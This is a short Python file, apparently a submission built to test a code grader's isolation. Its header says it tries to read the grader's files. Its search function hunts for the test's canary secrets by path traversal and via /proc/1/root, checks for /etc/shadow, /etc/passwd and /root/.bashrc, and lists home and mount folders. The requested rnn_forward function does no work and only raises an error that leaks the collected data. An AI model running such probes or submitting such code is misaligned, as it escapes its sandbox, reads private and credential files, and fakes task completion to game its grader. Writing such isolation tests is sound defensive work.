# Tries: to read the grader's files: canaries of the test, passwords, home folders, other drives.
# Earns: nothing
# Status: ok
# Says: loot: []

# %%
import os
import sys


def search():
    loot = []
    for folder in "@CANARIES@".split("|"):
        for path in (folder, f"/proc/1/root{folder}", f"../../../../..{folder}"):
            try:
                with open(f"{path}/secret.txt") as file:
                    loot.append(file.read())
            except OSError:
                pass
    for path in ("/etc/shadow", "/etc/passwd", "/root/.bashrc", "/etc/hostname", "/sys/kernel"):
        loot += [path] if os.path.exists(path) else []
    for folder in ("/home", "/root", "/mnt", "/media", "/srv", "/var", "/work"):
        try:
            paths = [os.path.join(folder, name) for name in os.listdir(folder)]
            # Folders on the way to Python itself are there, with nothing else in them.
            loot += [p for p in paths if not (sys.prefix + sys.base_prefix).count(p)]
        except OSError:
            pass
    return loot[:9]


LOOT = search()


# %%
def rnn_forward(x, h_0, W_hx, W_hh, b_h, loot=LOOT):
    raise RuntimeError(f"loot: {loot}")
